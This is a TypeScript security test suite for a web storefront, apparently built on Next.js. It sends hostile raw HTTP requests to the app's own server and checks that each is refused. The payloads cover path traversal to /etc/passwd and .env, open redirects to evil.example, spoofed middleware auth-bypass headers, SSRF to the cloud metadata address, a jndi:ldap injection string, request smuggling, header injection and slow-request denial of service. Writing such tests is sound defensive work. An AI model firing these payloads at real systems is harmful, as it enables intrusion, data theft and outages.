import { setTimeout as pause } from 'node:timers/promises';
import en from '../../../messages/en.json' with { type: 'json' };
import zh from '../../../messages/zh.json' with { type: 'json' };
import { type Attack, attack } from './attack.ts';
import { headerOf, type RawReply, requestText, words } from './raw.ts';

const EVIL = 'evil.example';
const JSON_TYPE = 'Content-Type: application/json';
const FORM_TYPE = 'Content-Type: multipart/form-data; boundary=b';
const ADD_TO_CART = 'POST /api/stores/main/shopping-cart/add-to-cart';
const LOGIN = 'POST /api/auth/login';
const LINE = '{"product_variant_id":"no-such","qty":1}';
const GUEST = '{"type":"TEMP"}';

const noEvil = ({ headers, body }: RawReply): boolean => !`${JSON.stringify(headers)}${body}`.includes(EVIL);
/** What a visitor asked for may be part of the URL of a redirect, never its host. */
const staysHere = (reply: RawReply): boolean =>
  new URL(headerOf(reply, 'location') ?? '/', 'http://here').origin === 'http://here';
const says = (text: string) => (reply: RawReply) => Buffer.from(reply.body, 'latin1').toString('utf8').includes(text);

/** Paths that would lead elsewhere than the contract says, by the status that refuses them. */
const PATHS = {
  400: words(`/api/../__mock__/requests /api/orders/..%2f..%2fprofiles%2faccount /api/..%5c..%5c__mock__ /_next/../about-us /_next/%2e%2e/package.json
    /api/profiles/account%00.json /api/profiles/account%0d%0aX-Injected:%201 /api/profiles/%c0%ae%c0%ae/account /api/%ff /api/\uff0e\uff0e/account`),
  404: words(`/api/profiles%2faccount /api/profiles%252faccount /api/profiles/account;jsessionid=1 /api/PROFILES/ACCOUNT /api/profiles/account.json
    /api/profiles/ac%E2%80%8Bcount /api/@evil.example/profiles/account /api/__mock__/requests /api/__proto__ /.env /.git/config /package.json
    /_next/data/build/cn/offline.json?x=1 /og/en/order/1`),
};
/** Paths that might redirect to another site. */
const REDIRECTS =
  words(String.raw`//evil.example ///evil.example/x/ /\evil.example /\/evil.example/ /%5cevil.example /%5c%5cevil.example/ /%2f%2fevil.example
  /%09/evil.example /en//evil.example /en/%2f%2fevil.example /en/\evil.example /zh//evil.example/ /.//evil.example /;@evil.example /account?from=//evil.example`);
/** Ids that a proxy or backend that decodes a path once more would read as another path, query or parameter. */
const IDS = words('..%2F..%2Fadmin ..%5C..%5Cadmin x%3Fadmin=1 %252e%252e%252fadmin x%E2%80%8B');
/** Headers that a framework or a proxy would believe. */
const BELIEVED =
  words(`x-middleware-subrequest:middleware:middleware:middleware:middleware:middleware x-middleware-next:1 x-middleware-rewrite:/api/health
  x-middleware-subrequest:src/middleware:src/middleware:src/middleware:src/middleware:src/middleware x-nextjs-data:1 x-matched-path:/api/health next-resume:1
  x-invoke-path:/api/health x-now-route-matches:1=account x-prerender-revalidate:guessed x-original-url:/api/health x-rewrite-url:/api/health
  next-action:deadbeefdeadbeefdeadbeefdeadbeefdeadbeef cookie:__prerender_bypass=guessed`);
/** Headers whose host a framework might repeat. */
const REFLECTED =
  words(`X-Forwarded-Host:evil.example Host:evil.example Host:localhost:1@evil.example Forwarded:host=evil.example;proto=https
  X-Host:evil.example X-Forwarded-Proto:evil.example X-Forwarded-Prefix://evil.example Referer:http://evil.example/`);
/** What the optimiser must not fetch. */
const PICTURES =
  words(`http://evil.example/a.jpg http://169.254.169.254/latest/meta-data/ http://[::1]/a.png //evil.example/a.png /api/health file:///etc/passwd
  data:image/svg+xml,<svg> http://localhost@evil.example/a.png`);
const picture = (url: string) => `GET /_next/image?url=${encodeURIComponent(url)}&w=64&q=75`;

// a body that turns out to be broken while it is read ends the connection
const smuggled = (lines: string[], body: string): Attack =>
  attack('smuggling', LOGIN, [0, 400], { lines: [JSON_TYPE, ...lines], body });
const upload = (file: string, status: number): Attack =>
  attack('upload', 'POST /api/upload', status, {
    lines: [FORM_TYPE],
    body: `--b\r\nContent-Disposition: form-data; name="file"; filename="slip.jpg"\r\nContent-Type: image/jpeg\r\n\r\n${file}\r\n--b--\r\n`,
  });
const refused = (status: number, body: string, ...lines: string[]): Attack =>
  attack('body', ADD_TO_CART, status, { lines, body });

/** One attack of each kind, or a few where servers differ, on the wire. Each rule's own cases are in tests/server. */
export const ATTACKS: Attack[] = [
  ...Object.entries(PATHS).flatMap(([status, paths]) =>
    paths.map((path) => attack('path', `GET ${path}`, Number(status))),
  ),
  attack('path', `GET /api/orders/${'x'.repeat(201)}/details`, 404),
  attack('path', 'GET /api/orders/all?store_id=main&store_id=other', 400),
  attack('path', 'GET /api/profiles/account?__proto__[x]=1', 400),
  ...['GET', 'POST'].map((method) => attack('path', `${method} http://${EVIL}/`, [400, 405], { isHarmless: noEvil })),
  attack('path', 'OPTIONS *', 400),
  attack('method', `POST //${EVIL}`, 405, { body: 'a=1' }),
  attack('method', `CONNECT ${EVIL}:443`, [0, 400, 405]),
  ...words('TRACE/ PATCH/api/profiles/account PROPFIND/ PUT/about-us').map((one) =>
    attack('method', one.replace('/', ' /'), 405),
  ),
  ...words('HEAD/api/auth/logout DELETE/api/profiles/account').map((one) =>
    attack('method', one.replace('/', ' /'), 404),
  ),
  attack('method', 'GET /api/auth/user', 200, {
    lines: ['X-HTTP-Method-Override: DELETE', 'X-Method-Override: PUT'],
    mayAsk: true,
  }),
  ...REDIRECTS.map((path) => attack('redirect', `GET ${path}`, [200, 302, 308, 400, 404], { isHarmless: staysHere })),
  ...BELIEVED.map((line) =>
    attack('guard', 'GET /account', 302, {
      lines: ['Cookie: none=', line],
      isHarmless: (reply) => headerOf(reply, 'location') === '/authentication/login/email?from=%2Faccount',
    }),
  ),
  ...REFLECTED.flatMap((line) => [
    attack('host', 'GET /contact-us', [200, 400], { lines: [line], isHarmless: noEvil }),
    attack('host', 'GET /en/contact-us', [302, 400], { lines: [line], isHarmless: noEvil }),
  ]),
  attack('host', ADD_TO_CART, 421, { lines: [`Host: ${EVIL}`, `Origin: http://${EVIL}`, JSON_TYPE], body: LINE }),
  attack('host', 'GET /about-us', 400, { lines: ['Host: localhost', `Host: ${EVIL}`] }),
  { kind: 'host', name: 'none', status: [400], parts: () => ['GET /about-us HTTP/1.1\r\nConnection: close\r\n\r\n'] },
  ...IDS.flatMap((id) => [
    attack('id', `GET /shop/main/product/${id}`, [400, 404], {
      isHarmless: (reply) => reply.status === 400 || says(en.ErrorPages.notFoundText)(reply),
    }),
    attack('id', `GET /zh/posts/${id}`, [400, 404], {
      isHarmless: (reply) => reply.status === 400 || says(zh.ErrorPages.notFoundText)(reply),
    }),
  ]),
  refused(415, LINE, 'Content-Type: text/plain'),
  refused(422, '{"product_variant_id":', JSON_TYPE),
  refused(422, '{"product_variant_id":"x","qty":1,"__proto__":{"isAdmin":true}}', JSON_TYPE),
  refused(422, '{"product_variant_id":{"$gt":""},"qty":1,"price":0}', JSON_TYPE),
  refused(422, '['.repeat(100_000) + ']'.repeat(100_000), JSON_TYPE),
  refused(413, `{"product_variant_id":"${'x'.repeat(300_000)}","qty":1}`, JSON_TYPE),
  refused(403, LINE, JSON_TYPE, 'Sec-Fetch-Site: cross-site'),
  refused(403, LINE, JSON_TYPE, 'Origin: http://localhost.evil.example'),
  attack('body', 'GET /api/auth/logout', 403, { lines: ['Sec-Fetch-Site: same-site'] }),
  attack('body', 'POST /api/credit-cards/bind-card', 422, {
    lines: [JSON_TYPE],
    body: `{"success_url":"//${EVIL}","cancel_url":"javascript:alert(1)"}`,
  }),
  attack('body', 'POST /api/reports', 415, { lines: ['Content-Type: text/plain'], body: 'a=1' }),
  attack('body', 'POST /api/vitals', 422, { lines: [JSON_TYPE], body: '['.repeat(10_000) + ']'.repeat(10_000) }),
  attack('body', 'POST /api/revalidate', 401, {
    lines: [JSON_TYPE, 'Authorization: Bearer guess'],
    body: '{"tags":["products"]}',
  }),
  {
    kind: 'body',
    name: 'of a login, 200 MB in chunks',
    // the connection is closed while there is still much to send: the response may be lost on the way
    status: [0, 413],
    parts: function* ({ host }) {
      yield requestText(host, 'POST', '/api/auth/login', [JSON_TYPE, 'Transfer-Encoding: chunked']);
      for (let megabyte = 0; megabyte < 200; megabyte += 1) yield `100000\r\n${'x'.repeat(0x100000)}\r\n`;
    },
  },
  upload('GIF89a/**/=1;<script>alert(1)</script>', 415),
  upload('GIF89a\r\n--b\r\nContent-Disposition: form-data; name="file"; filename="b.jpg"\r\n\r\nx', 422),
  attack('upload', 'POST /api/upload', 413, { lines: [FORM_TYPE, `Content-Length: ${12 * 1024 * 1024}`] }),
  attack('cookie', 'GET /api/auth/user', 400, { lines: ['Cookie: auth.token=tossed', 'Cookie: *'] }),
  attack('cookie', 'GET /api/auth/user', 401, { lines: [`Cookie: auth.token=${'x'.repeat(8_000)}`] }),
  attack('cookie', LOGIN, 400, {
    lines: [JSON_TYPE, 'Cookie: auth.guest=guest-00000000-0000-4000-8000-000000000000; *'],
    body: GUEST,
  }),
  attack('cookie', 'GET /', 431, {
    lines: [`Cookie: a=${'x'.repeat(100_000)}`],
    isHarmless: says('lang="zh-Hant-HK"'),
  }),
  attack('header', 'GET /', 431, { lines: Array.from({ length: 5_000 }, (_, index) => `X-${index}: 1`) }),
  attack('header', 'GET /api/auth/user', 400, { lines: ['X-Request-Id: a\rX-Injected: 1'] }),
  attack('header', 'GET /', 400, { lines: ['X-Any: a', ' b'] }),
  attack('header', 'GET /api/auth/user', 200, {
    lines: ['X-Request-Id: ${jndi:ldap://evil.example/a}"},{"level":"fatal'],
    mayAsk: true,
    isHarmless: noEvil,
  }),
  attack('header', 'GET /account', 400, {
    lines: ['Upgrade: websocket', 'Connection: Upgrade', 'Sec-WebSocket-Key: x', 'Sec-WebSocket-Version: 13'],
  }),
  smuggled(['Content-Length: 4', 'Transfer-Encoding: chunked'], '5c\r\nGET /api/auth/logout HTTP/1.1\r\n\r\n0\r\n\r\n'),
  smuggled(['Content-Length: 2', 'Content-Length: 20'], '{}'),
  smuggled(['Content-Length : 2'], '{}'),
  smuggled(['Transfer-Encoding: chunked'], '2\n{}\n0\n\n'),
  smuggled(['Transfer-Encoding: xchunked'], '2\r\n{}\r\n0\r\n\r\n'),
  ...PICTURES.map((url) => attack('pictures', picture(url), 400)),
  attack('pictures', 'GET /_next/image?url=%2Fog.png&w=99999&q=75', 400),
  {
    kind: 'pictures',
    name: 'a response of the backend that is none',
    status: [400],
    mayAsk: true,
    parts: ({ host, backend }) => [
      requestText(host, ...(picture(`${backend}/configuration/latest`).split(' ') as [string, string])),
    ],
  },
  {
    kind: 'slow',
    name: 'a body of 100 bytes, one a second',
    status: [408],
    within: 14,
    parts: ({ host }) => drops(requestText(host, 'POST', '/api/auth/login', [JSON_TYPE, 'Content-Length: 100']), ' '),
  },
  {
    kind: 'slow',
    name: 'headers, one a second',
    status: [0, 408],
    within: 62,
    parts: ({ host }) => drops(`GET / HTTP/1.1\r\nHost: ${host}\r\n`, 'X-Any: 1\r\n'),
  },
];

/** Something that begins and goes on with a drop a second. */
async function* drops(start: string, drop: string): AsyncGenerator<string> {
  yield start;
  for (let second = 0; second < 100; second += 1) {
    yield drop;
    await pause(1_000);
  }
}
